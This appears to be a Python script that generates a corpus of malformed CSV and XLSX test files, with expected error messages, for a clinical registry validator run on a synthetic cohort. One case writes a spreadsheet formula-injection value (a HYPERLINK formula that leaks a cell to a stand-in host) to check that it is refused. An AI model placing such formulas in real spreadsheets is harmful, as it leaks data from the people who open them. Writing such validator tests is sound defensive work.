"""Write the bad-input corpus: files a user might hand to `python -m compendium validate`.

Each case starts from the first six patients of the committed synthetic cohort and breaks one
thing; ``expected.csv`` says, for every file, whether it must be refused or accepted and a fragment
of the message (or notice) it must produce. Nothing here depends on the cohort's values: the rows a
case edits are chosen by what they hold (a patient with a progression date, one without
neuropathy), new values are set relative to the row's own dates, and every fragment that names a
value, a field count, a column position or a patient is computed from the rows written. Run from
the repository root:

    .venv/bin/python tests/bad_inputs/make_corpus.py

The files are committed; rerunning rewrites them (XLSX files carry zip timestamps, so their bytes
change while their content does not).
"""

from __future__ import annotations

import csv
import datetime
import shutil
import struct
import zlib
from pathlib import Path

import pandas as pd
from openpyxl import Workbook

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent.parent
COHORT = ROOT / "data" / "synthetic" / "daravd_synthetic_cohort.csv"
N = 6

# (file, outcome, expected fragment, maker); a maker returning a string gives the fragment itself
CASES: list[tuple[str, str, str | None, object]] = []


def case(name: str, outcome: str, expected: str | None = None):
    def register(make):
        CASES.append((name, outcome, expected, make))
        return make
    return register


def base() -> pd.DataFrame:
    return pd.read_csv(COHORT, dtype=str, keep_default_na=False, nrows=N)


def csv_text(frame: pd.DataFrame, sep: str = ",") -> str:
    return frame.to_csv(index=False, sep=sep, lineterminator="\n")


def write_text(name: str, text: str, encoding: str = "utf-8") -> None:
    (HERE / name).write_bytes(text.encode(encoding))


def write_xlsx(name: str, rows: list[list], sheets: dict[str, list[list]] | None = None) -> None:
    book = Workbook()
    sheet = book.active
    sheet.title = "patients"
    for row in rows:
        sheet.append(row)
    for title, more in (sheets or {}).items():
        extra = book.create_sheet(title)
        for row in more:
            extra.append(row)
    book.save(HERE / name)


def png_bytes() -> bytes:
    """A 1x1 white PNG, built by hand so that the bytes never change."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00\xff\xff\xff")) \
        + chunk(b"IEND", b"")


def lines(frame: pd.DataFrame) -> list[str]:
    return csv_text(frame).splitlines()


def bare_line(values) -> str:
    """One row joined by commas as a careless export writes it: nothing quoted."""
    return ",".join(values)


def first_row(frame: pd.DataFrame, holds, what: str) -> int:
    """Index of the first base row for which ``holds(row)`` is true: the patient a case edits."""
    for i, row in frame.iterrows():
        if holds(row):
            return i
    raise SystemExit(f"make_corpus.py: none of the first {N} patients of {COHORT.name} is {what}")


def day(text: str) -> datetime.date:
    return datetime.date.fromisoformat(text)


def years_before(date: datetime.date, years: int) -> datetime.date:
    """The same day ``years`` earlier (28 February for a 29 February that year lacks)."""
    try:
        return date.replace(year=date.year - years)
    except ValueError:
        return date.replace(year=date.year - years, day=28)


def age(birth: datetime.date, at: datetime.date) -> int:
    """Completed years, counted by hand (an independent check of the loader's age)."""
    return at.year - birth.year - ((at.month, at.day) < (birth.month, birth.day))


def at_cell(frame: pd.DataFrame, row: int, column: str, value: str) -> str:
    """How a cell problem's message starts: column, 1-based row, patient and the value found."""
    return f"column '{column}', row {row + 1} (patient {frame.loc[row, 'patient_id']}): value '{value}'; expected "


# -- the file as a whole -------------------------------------------------------------------------------

@case("empty.csv", "refused", "empty.csv: is empty (0 bytes)")
def _():
    write_text("empty.csv", "")


@case("only_blank_lines.csv", "refused", "only_blank_lines.csv: is empty (4 bytes)")
def _():
    write_text("only_blank_lines.csv", "\n \n\n")


@case("header_only.csv", "refused", "has a header row but no patient rows")
def _():
    write_text("header_only.csv", lines(base())[0] + "\n")


@case("header_and_bare_commas.csv", "refused", "has a header row but no patient rows (only 3 blank row(s) below it)")
def _():
    head = lines(base())[0]
    write_text("header_and_bare_commas.csv", head + "\n" + ("," * head.count(",") + "\n") * 3)


@case("latin1.csv", "refused", "is not UTF-8 text: line 4 has the byte 0xEC")
def _():
    frame = base()
    frame.loc[2, "center"] = "Forlì"
    write_text("latin1.csv", csv_text(frame), encoding="latin-1")


@case("utf16.csv", "refused", "is UTF-16 text")
def _():
    write_text("utf16.csv", csv_text(base()), encoding="utf-16")


@case("image.csv", "refused", "is not a text table: it is a PNG image")
def _():
    (HERE / "image.csv").write_bytes(png_bytes())


@case("document.csv", "refused", "is not a text table: it is a PDF document")
def _():
    (HERE / "document.csv").write_bytes(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n")


@case("workbook_named_csv.csv", "refused", "it is a ZIP archive (an .xlsx workbook is one). Rename it to .xlsx")
def _():
    write_xlsx("workbook_named_csv.csv", [list(base().columns)] + base().values.tolist())


@case("prose.csv", "refused", "the first row is not the header of data/dictionary.csv: it names 0 of the")
def _():
    write_text("prose.csv", "Dear colleague,\nhere are the patients you asked for.\nBest wishes\n")


@case("web_page.csv", "refused", "row 1 reads: '<!DOCTYPE html>'")
def _():
    write_text("web_page.csv", "<!DOCTYPE html>\n<html><body>Session expired. Please log in again.</body></html>\n")


@case("no_header.csv", "refused")
def _():
    frame = base()
    write_text("no_header.csv", "\n".join(lines(frame)[1:]) + "\n")
    shown = [v for v in frame.iloc[0] if v][:3]  # the first patient row, shown as the supposed header
    return f"it names 0 of the {len(frame.columns)} dictionary columns (row 1 reads: '{', '.join(shown)}"


@case("semicolons.csv", "refused", "separates its fields with semicolons, not commas")
def _():
    write_text("semicolons.csv", csv_text(base(), sep=";"))


@case("tabs.csv", "refused", "separates its fields with tabs, not commas")
def _():
    write_text("tabs.csv", csv_text(base(), sep="\t"))


@case("title_rows.csv", "refused", "row 4 looks like the header")
def _():
    width = len(base().columns) - 1
    title = ["DaraVd registry export"] + [""] * width
    when = ["exported 2024-01-15 by the data manager"] + [""] * width
    rows = [title, when, [""] * (width + 1)]
    text = "".join(",".join(r) + "\n" for r in rows) + csv_text(base())
    write_text("title_rows.csv", text)


@case("mostly_foreign_header.csv", "refused", "it names 2 of the")
def _():
    frame = base()
    names = [c if c in ("patient_id", "sex") else f"var{i}" for i, c in enumerate(frame.columns)]
    write_text("mostly_foreign_header.csv", csv_text(frame.set_axis(names, axis=1)))


@case("duplicate_column.csv", "refused")
def _():
    frame = base()
    text = lines(frame)
    rows = [t + "," + ("sex" if i == 0 else frame.loc[i - 1, "sex"]) for i, t in enumerate(text)]
    write_text("duplicate_column.csv", "\n".join(rows) + "\n")
    return (f"the header names column 'sex' twice (columns {frame.columns.get_loc('sex') + 1} and "
            f"{len(frame.columns) + 1})")


def wrong_field_count(frame, index: int, extra: int) -> str:
    """The message for one data row (0-based ``index``) with ``extra`` fields more than the header."""
    fields = len(frame.columns)
    return (f"1 row(s) do not have the header's {fields} fields: "
            f"row {index + 1} (line {index + 2}, patient {frame.loc[index, 'patient_id']}: {fields + extra} fields)")


@case("row_too_short.csv", "refused")
def _():
    frame = base()
    text = lines(frame)
    text[3] = bare_line(frame.loc[2].drop("center"))  # row 3 without its centre
    write_text("row_too_short.csv", "\n".join(text) + "\n")
    return wrong_field_count(frame, 2, -1)


@case("unquoted_comma.csv", "refused")
def _():
    frame = base()
    frame.loc[1, "center"] = "Napoli, Federico II"
    text = lines(frame)
    text[2] = bare_line(frame.loc[1])  # the comma inside the centre's name left unquoted
    write_text("unquoted_comma.csv", "\n".join(text) + "\n")
    return wrong_field_count(frame, 1, +1)


@case("unclosed_quote.csv", "refused")
def _():
    frame = base()
    frame.loc[1, "center"] = '"Napoli'
    text = lines(frame)
    text[2] = bare_line(frame.loc[1])  # the quote opened in the centre's cell runs to the end of the file
    write_text("unclosed_quote.csv", "\n".join(text) + "\n")
    fields_before = frame.columns.get_loc("center") + 1  # the cells before it, and the rest of the file as one
    return (f"row 2 (lines 3-{len(text)}, patient {frame.loc[1, 'patient_id']}: {fields_before} fields)")


@case("blank_row_inside.csv", "refused", "has blank row(s) between patient rows (row 3)")
def _():
    text = lines(base())
    text.insert(3, "," * text[0].count(","))
    write_text("blank_row_inside.csv", "\n".join(text) + "\n")


@case("wrong_suffix.txt", "refused", "expected a .csv or .xlsx file, found a '.txt' suffix")
def _():
    write_text("wrong_suffix.txt", csv_text(base()))


@case("old_excel.xls", "refused", "is an old Excel .xls workbook")
def _():
    (HERE / "old_excel.xls").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))


@case("a_folder.csv", "refused", "a_folder.csv: is a folder, not a file")
def _():
    folder = HERE / "a_folder.csv"
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir()
    (folder / "README").write_text("A folder named like a data file: the loader must say it is a folder.\n")


@case("does_not_exist.csv", "refused", "does_not_exist.csv: no such file")
def _():
    (HERE / "does_not_exist.csv").unlink(missing_ok=True)


@case("text_named_xlsx.xlsx", "refused", "is not an Excel workbook (.xlsx): it looks like text")
def _():
    write_text("text_named_xlsx.xlsx", csv_text(base()))


@case("empty.xlsx", "refused", "empty.xlsx: is empty (0 bytes)")
def _():
    (HERE / "empty.xlsx").write_bytes(b"")


@case("title_rows.xlsx", "refused", "row 3 looks like the header")
def _():
    frame = base()
    write_xlsx("title_rows.xlsx", [["DaraVd registry"], []] + [list(frame.columns)] + frame.values.tolist())


@case("header_only.xlsx", "refused", "has a header row but no patient rows")
def _():
    write_xlsx("header_only.xlsx", [list(base().columns)])


# -- cells and plausibility ------------------------------------------------------------------------------

# Each case edits one or two cells of the base rows and gives the fragment of the message naming
# them; the rows are chosen by what they hold and the values set from the row's own dates.
AGE_RULE = "(rule 'age at start 18-100'"


def cell_case(name: str):
    def register(edit):
        def make():
            frame = base()
            expected = edit(frame)
            write_text(name, csv_text(frame))
            return expected
        return case(name, "refused")(make)
    return register


def _age_case(frame: pd.DataFrame, years: int) -> str:
    """A birth date ``years`` and a few days before DaraVd started, of a patient diagnosed after it."""
    def birth(row):
        return years_before(day(row["daravd_start_date"]), years) - datetime.timedelta(days=5)

    row = first_row(frame, lambda r: birth(r) < day(r["diagnosis_date"]), f"diagnosed after a birth {years} years "
                                                                           "before DaraVd")
    born, start = birth(frame.loc[row]), frame.loc[row, "daravd_start_date"]
    assert age(born, day(start)) == years
    frame.loc[row, "birth_date"] = born.isoformat()
    return (at_cell(frame, row, "birth_date", born.isoformat())
            + f"an age of 18 to 100 years at daravd_start_date ({start}), not {years} {AGE_RULE}")


@cell_case("age_130.csv")
def _(frame):
    return _age_case(frame, 130)


@cell_case("age_16.csv")
def _(frame):
    return _age_case(frame, 16)


@cell_case("date_in_future.csv")
def _(frame):
    row = first_row(frame, lambda r: r["best_response_date"], "with a best response date")
    frame.loc[row, "best_response_date"] = value = "2092-07-12"
    # the message goes on with today's date, then the rule 'no date in the future'
    return at_cell(frame, row, "best_response_date", value) + "a date not after today ("


@cell_case("date_after_cutoff.csv")
def _(frame):
    cutoff = max(frame["last_followup_date"])  # after every last follow-up of these patients, before today
    row = first_row(frame, lambda r: r["best_response_date"], "with a best response date")
    frame.loc[row, "best_response_date"] = value = (day(cutoff) + datetime.timedelta(days=30)).isoformat()
    return (at_cell(frame, row, "best_response_date", value)
            + f"on or before the data cut-off ({cutoff}, the latest last_followup_date) "
              "(rule 'no date after the data cut-off'")


@cell_case("dates_out_of_order.csv")
def _(frame):
    row = first_row(frame, lambda r: r["progression_date"], "with a progression date")
    start = frame.loc[row, "daravd_start_date"]
    frame.loc[row, "progression_date"] = value = (day(start) - datetime.timedelta(days=30)).isoformat()
    return (at_cell(frame, row, "progression_date", value)
            + f"on or after daravd_start_date ({start}): progression after the start of DaraVd")


@cell_case("reduction_after_last_cycle.csv")
def _(frame):
    row = first_row(frame, lambda r: r["bortezomib_dose_reduced"] == "0", "without a bortezomib dose reduction")
    cycles = frame.loc[row, "cycles_received"]
    frame.loc[row, "bortezomib_dose_reduced"] = "1"
    frame.loc[row, "bortezomib_reduction_cycle"] = value = str(int(cycles) + 1)
    return (at_cell(frame, row, "bortezomib_reduction_cycle", value)
            + f"at most cycles_received ({cycles}) (rule 'cycle within the cycles received'")


@cell_case("too_many_cycles.csv")
def _(frame):
    row = first_row(frame, lambda r: r["daravd_end_date"], "with a DaraVd end date")
    days = (day(frame.loc[row, "daravd_end_date"]) - day(frame.loc[row, "daravd_start_date"])).days
    most = days // 21 + 2  # a cycle lasts at least 21 days: cycles 1..days//21 + 1, and one of tolerance
    frame.loc[row, "cycles_received"] = value = str(most + 1)
    return (at_cell(frame, row, "cycles_received", value)
            + f"at most {most} cycles in the {days} days from daravd_start_date to daravd_end_date "
              "(rule 'cycles fit the time on treatment'")


@cell_case("neuropathy_outcome_without_neuropathy.csv")
def _(frame):
    row = first_row(frame, lambda r: r["ae_pn_grade"] == "0", "without neuropathy")
    frame.loc[row, "ae_pn_outcome"] = "resolved"
    return (at_cell(frame, row, "ae_pn_outcome", "resolved")
            + "filled exactly when ae_pn_grade is above 0 (rule 'neuropathy outcome'")


@cell_case("na_in_number_column.csv")
def _(frame):
    frame.loc[2, "bm_pc_pct_relapse"] = "N/A"
    return (at_cell(frame, 2, "bm_pc_pct_relapse", "N/A")
            + "a number from 0 to 100 or empty (a missing value is an empty cell")


@cell_case("unknown_code.csv")
def _(frame):
    frame.loc[3, "sex"] = "male"
    return at_cell(frame, 3, "sex", "male") + "one of M, F"


FORMULA_EXPECTED = "a code that does not start with =, +, -, @, a tab or a carriage return (rule 'no formula in an identifier'"


@cell_case("formula_patient_id.csv")
def _(frame):
    # what a spreadsheet would turn into a link that sends the sheet's contents elsewhere
    frame.loc[1, "patient_id"] = value = '=HYPERLINK("http://example.invalid/?leak="&A1,"SYN002")'
    return at_cell(frame, 1, "patient_id", value) + FORMULA_EXPECTED


@cell_case("formula_center.csv")
def _(frame):
    frame.loc[4, "center"] = value = "+1+1"
    return at_cell(frame, 4, "center", value) + FORMULA_EXPECTED


@case("capitalised_header.csv", "refused", "column 'sex'; expected this column, as named in the data dictionary "
                                           "(the header has 'Sex'")
def _():
    frame = base().rename(columns={"sex": "Sex"})
    write_text("capitalised_header.csv", csv_text(frame))


@case("no_eligible_patient.csv", "refused", f"none of its {N} patient(s) meets the study's eligibility "
                                          f"(DaraVd started outside June 2018 - December 2022: {N})")
def _():
    frame = base()
    for column in [c for c in frame.columns if c.endswith("_date")]:  # the whole history ten years earlier
        frame[column] = frame[column].map(lambda d: f"{int(d[:4]) - 10}{d[4:]}" if d else d)
    frame["birth_date"] = frame["birth_date"].map(lambda d: d.replace("-02-29", "-02-28"))
    write_text("no_eligible_patient.csv", csv_text(frame))


# -- accepted, with a notice -----------------------------------------------------------------------------

@case("trailing_bare_commas.csv", "accepted", f"ignored 3 blank row(s) at the end (rows {N + 1}-{N + 3}")
def _():
    head = lines(base())[0]
    write_text("trailing_bare_commas.csv", csv_text(base()) + ("," * head.count(",") + "\n") * 3)


@case("extra_columns.csv", "accepted", "ignored 2 column(s) not in data/dictionary.csv: notes, bmi")
def _():
    frame = base()
    frame["notes"] = "seen in clinic"
    frame["bmi"] = "24.1"
    write_text("extra_columns.csv", csv_text(frame))


@case("byte_order_mark.csv", "accepted", f"{N} rows follow the dictionary")
def _():
    write_text("byte_order_mark.csv", csv_text(base()), encoding="utf-8-sig")


@case("napoli_NA.csv", "accepted", f"{N} rows follow the dictionary")
def _():
    frame = base()
    frame.loc[[0, 3], "center"] = "NA"
    write_text("napoli_NA.csv", csv_text(frame))


@case("napoli_NA.xlsx", "accepted", f"{N} rows follow the dictionary")
def _():
    frame = base()
    frame.loc[[0, 3], "center"] = "NA"
    write_xlsx("napoli_NA.xlsx", [list(frame.columns)] + frame.values.tolist())


@case("two_sheets.xlsx", "accepted", "read the first sheet 'patients' only; ignored the other sheet(s): 'notes'")
def _():
    frame = base()
    write_xlsx("two_sheets.xlsx", [list(frame.columns)] + frame.values.tolist(),
               sheets={"notes": [["exported for the compendium"]]})


def main() -> None:
    rows = []
    for name, outcome, expected, make in CASES:
        made = make()
        rows.append([name, outcome, made if expected is None else expected])
        assert rows[-1][2], f"{name}: no expected fragment"
    with open(HERE / "expected.csv", "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle, lineterminator="\n")
        writer.writerow(["file", "outcome", "expected"])
        writer.writerows(rows)
    print(f"wrote {len(CASES)} cases and expected.csv to {HERE.name}/")


if __name__ == "__main__":
    main()
